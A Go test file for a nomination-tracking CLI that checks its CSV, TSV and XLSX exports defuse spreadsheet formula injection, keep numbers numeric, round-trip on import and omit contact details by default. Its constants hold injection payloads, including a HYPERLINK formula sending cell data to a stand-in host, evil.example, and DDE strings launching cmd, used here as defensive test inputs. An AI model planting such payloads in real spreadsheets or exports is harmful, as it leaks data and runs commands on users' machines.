package safety

import (
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// Values a spreadsheet would run as formulas (SPEC §8).
const (
	evilName     = `=HYPERLINK("http://evil.example/?x="&A1,"Open")`
	evilPosition = "+1+cmd|' /C calc'!A0"
	evilRank     = "-2+3"
	evilMinistry = "@SUM(1+1)"
	evilTitle    = "=cmd|' /C notepad'!A0"
)

// MustInjectionData writes, through the CLI, a course, offering, person and
// nomination whose text fields are all formulas.
func MustInjectionData(tb testing.TB, e *Env) {
	tb.Helper()
	e.MustRun(tb, "course", "add", "X1-001", "--title", evilTitle, "--area", "counter-terrorism", "--provider", "-NCI", "--days", "5", "--fee", "1200")
	e.MustRun(tb, "offering", "add", "X1-001", "--start", "2012-03-05", "--seats", "4", "--location", "@Oberammergau")
	e.MustRun(tb, "person", "add", "--name", evilName, "--ministry", evilMinistry, "--ref", "MOD-7001", "--position", evilPosition, "--rank", evilRank, "--email", "=evil@example.org")
	e.MustRun(tb, "nominate", "MOD-7001", "X1-001@2012-03-05", "--note", "+note")
}

// formulaLike reports whether a spreadsheet would treat s as a formula: a
// leading =, +, -, @, tab or CR, unless s is a plain number.
func formulaLike(s string) bool {
	if s == "" || !strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return false
	}
	_, err := strconv.ParseFloat(s, 64)
	return err != nil
}

// AssertCSVSafe parses text as CSV (sep) and fails for any cell a
// spreadsheet would run; it returns the cells.
func AssertCSVSafe(tb testing.TB, what, text string, sep rune) [][]string {
	tb.Helper()
	r := csv.NewReader(strings.NewReader(text))
	r.Comma = sep
	r.FieldsPerRecord = -1
	r.LazyQuotes = true
	rows, err := r.ReadAll()
	if err != nil {
		tb.Fatalf("%s: %v\n%s", what, err, text)
	}
	for i, row := range rows {
		for j, cell := range row {
			if formulaLike(cell) {
				tb.Errorf("%s: row %d column %d is a live formula: %q", what, i+1, j+1, cell)
			}
		}
	}
	return rows
}

// AssertXLSXSafe fails for any formula or formula-like text in a workbook,
// and returns how many numeric cells it holds.
func AssertXLSXSafe(tb testing.TB, path string) (numbers int) {
	tb.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			tb.Fatal(err)
		}
		for i, row := range rows {
			for j, v := range row {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					tb.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				if formulaLike(v) {
					tb.Errorf("%s!%s is a live formula: %q", sheet, ref, v)
				}
				// A number cell has no type attribute (or "n").
				typ, _ := f.GetCellType(sheet, ref)
				if _, err := strconv.ParseFloat(v, 64); err == nil && (typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset) {
					numbers++
				}
			}
		}
	}
	return numbers
}

func TestListsAndReportsNeutraliseFormulas(t *testing.T) {
	e := NewEnv(t)
	MustInjectionData(t, e)
	for _, c := range []struct {
		args []string
		sep  rune
	}{
		{[]string{"person", "list", "-o", "csv"}, ','},
		{[]string{"person", "list", "-o", "tsv"}, '\t'},
		{[]string{"nomination", "list", "-o", "csv"}, ','},
		{[]string{"course", "list", "-o", "csv"}, ','},
		{[]string{"offering", "list", "-o", "tsv"}, '\t'},
		{[]string{"report", "year", "2012", "-o", "csv"}, ','},
	} {
		r := e.MustRun(t, c.args...)
		rows := AssertCSVSafe(t, strings.Join(c.args, " "), r.Stdout, c.sep)
		// The text is kept, behind an apostrophe.
		if c.args[0] == "person" && !strings.Contains(r.Stdout, "'"+strings.ReplaceAll(evilName, `"`, `""`)) {
			t.Errorf("%v lost the name:\n%v", c.args, rows)
		}
	}
	out := filepath.Join(e.Dir, "report.xlsx")
	e.MustRun(t, "report", "year", "2012", "--out", out)
	if n := AssertXLSXSafe(t, out); n == 0 {
		t.Error("the report workbook has no numeric cells: numbers must stay numbers")
	}
}

// exportKinds are the export subcommands (SPEC §3).
var exportKinds = []string{"nominations", "people", "courses", "offerings", "requests"}

func TestExportsNeutraliseFormulasKeepNumbers(t *testing.T) {
	e := NewEnv(t)
	MustInjectionData(t, e)
	e.MustRun(t, "request", "add", "--ministry", evilMinistry, "--area", "counter-terrorism", "--year", "2012", "--seats", "3", "--note", "=1+1")
	for _, kind := range exportKinds {
		var contact []string
		if kind == "people" || kind == "nominations" {
			contact = []string{"--with-contact"} // the e-mail is a formula too
		}
		for _, f := range []struct {
			format string
			sep    rune
		}{{"csv", ','}, {"tsv", '\t'}} {
			r := e.MustRun(t, append([]string{"export", kind, "-o", f.format}, contact...)...)
			if rows := AssertCSVSafe(t, "export "+kind+" -o "+f.format, r.Stdout, f.sep); len(rows) < 2 {
				t.Errorf("export %s -o %s has no data rows:\n%s", kind, f.format, r.Stdout)
			}
		}
		out := filepath.Join(e.Dir, kind+".xlsx")
		e.MustRun(t, append([]string{"export", kind, "--out", out}, contact...)...)
		numbers := AssertXLSXSafe(t, out)
		if (kind == "courses" || kind == "offerings" || kind == "requests") && numbers == 0 {
			t.Errorf("export %s to xlsx has no numeric cells: numbers must stay numbers", kind)
		}
	}
}

func TestExportedFormulasImportBackUnchanged(t *testing.T) {
	// The apostrophe protects the spreadsheet; importing the export gives
	// back the very text, not the apostrophe.
	src := NewEnv(t)
	MustInjectionData(t, src)
	dir := t.TempDir()
	courses, offerings, people := filepath.Join(dir, "courses.csv"), filepath.Join(dir, "offerings.csv"), filepath.Join(dir, "people.csv")
	src.MustRun(t, "export", "courses", "--out", courses)
	src.MustRun(t, "export", "offerings", "--out", offerings)
	src.MustRun(t, "export", "people", "--with-contact", "--out", people)
	dst := NewEnv(t)
	dst.MustRun(t, "import", courses, "--kind", "courses")
	dst.MustRun(t, "import", offerings, "--kind", "offerings")
	dst.MustRun(t, "import", people, "--kind", "people")
	r := dst.MustRun(t, "person", "show", "MOD-7001", "-o", "json")
	for _, want := range []string{evilName, evilPosition, evilRank, evilMinistry} {
		if !strings.Contains(r.Stdout, jsonText(want)) {
			t.Errorf("after the round trip %q is not as it was:\n%s", want, r.Stdout)
		}
	}
	if r := dst.MustRun(t, "course", "show", "X1-001", "-o", "json"); !strings.Contains(r.Stdout, jsonText(evilTitle)) {
		t.Errorf("course title after the round trip:\n%s", r.Stdout)
	}
}

// jsonText is s as nomtrack's JSON writes it inside a string (quotes
// escaped, HTML characters not), without the surrounding quotes.
func jsonText(s string) string {
	var b strings.Builder
	enc := json.NewEncoder(&b)
	enc.SetEscapeHTML(false)
	enc.Encode(s)
	out := strings.TrimSpace(b.String())
	return out[1 : len(out)-1]
}

func TestExportsLeaveOutContactsUnlessAsked(t *testing.T) {
	e := NewEnv(t)
	MustBase(t, e)
	e.MustRun(t, "nominate", basePersonRef, baseOffering)
	const email, phone = "ali.alsaadi@mod.example.org", "770 123 4567"
	for _, kind := range []string{"people", "nominations"} {
		for _, format := range []string{"csv", "tsv", "json"} {
			r := e.MustRun(t, "export", kind, "-o", format)
			if strings.Contains(r.Stdout, email) || strings.Contains(r.Stdout, phone) {
				t.Errorf("export %s -o %s without --with-contact prints contact details:\n%s", kind, format, r.Stdout)
			}
		}
		out := filepath.Join(e.Dir, kind+".xlsx")
		e.MustRun(t, "export", kind, "--out", out)
		if b := xlsxText(t, out); strings.Contains(b, email) || strings.Contains(b, phone) {
			t.Errorf("export %s to xlsx without --with-contact holds contact details", kind)
		}
	}
	if r := e.MustRun(t, "export", "people", "-o", "csv", "--with-contact"); !strings.Contains(r.Stdout, email) || !strings.Contains(r.Stdout, phone) {
		t.Errorf("export people --with-contact lacks the contact details:\n%s", r.Stdout)
	}
}

// xlsxText is every cell of a workbook, joined.
func xlsxText(tb testing.TB, path string) string {
	tb.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	defer f.Close()
	var b strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			tb.Fatal(err)
		}
		for _, row := range rows {
			b.WriteString(strings.Join(row, "\t") + "\n")
		}
	}
	return b.String()
}
